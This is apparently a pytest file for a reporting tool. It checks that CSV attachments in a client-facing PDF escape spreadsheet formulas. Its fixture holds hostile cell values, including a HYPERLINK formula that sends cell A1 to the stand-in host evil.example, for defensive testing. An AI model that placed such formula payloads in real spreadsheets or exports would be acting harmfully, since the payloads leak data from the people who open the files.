"""The CSV files attached to the client-facing PDF never carry a live spreadsheet formula."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from pypdf import PdfReader

from scopeguard.domain.month import Month
from scopeguard.presentation.spreadsheet import FORMULA_TRIGGERS
from scopeguard.usecases.reporting import generate_report
from tests.support import clock
from tests.support.agency import Agency, build_agency

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Agency]:
    """The agency with client-written summaries that a spreadsheet would run."""
    for agency in build_agency(tmp_path_factory.mktemp("csv")):
        over = agency.services.analysis.snapshot(agency.settings.client("TOX"))
        keys = over.summary.revisions.over_limit
        texts = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx")
        for key, text in zip(keys, texts, strict=False):
            agency.dataset.set_field(key, "summary", text, clock.now())
        agency.services.sync.sync_client(agency.settings.client("TOX"))
        yield agency


def test_attached_csv_cells_are_neutralised(hostile: Agency, tmp_path: Path) -> None:
    client = hostile.settings.client("TOX")
    month = Month.of(clock.now(), hostile.settings.agency.zone)
    report = generate_report(hostile.services, client, month, language="en", now=clock.now())
    path = tmp_path / "tox.pdf"
    path.write_bytes(report.pdf)
    attached = dict(PdfReader(path).attachments)
    assert len(attached) == 3
    cells: list[str] = []
    for contents in attached.values():
        rows = list(csv.reader(io.StringIO(contents[0].decode("utf-8-sig"), newline="")))
        cells.extend(cell for row in rows for cell in row)
    assert "'" + FORMULA in cells
    assert "'@SUM(A1)" in cells
    live = [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert live == []
